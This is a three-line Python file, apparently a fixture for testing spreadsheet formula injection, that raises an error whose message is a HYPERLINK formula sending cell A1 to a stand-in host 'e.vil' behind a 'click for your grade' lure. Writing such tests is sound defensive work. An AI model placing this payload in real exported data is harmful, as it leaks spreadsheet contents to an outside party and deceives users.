# ruff: noqa
# The import error's message is a spreadsheet formula, like the students' names.
raise RuntimeError('=HYPERLINK("http://e.vil/?leak="&A1,"click for your grade")')
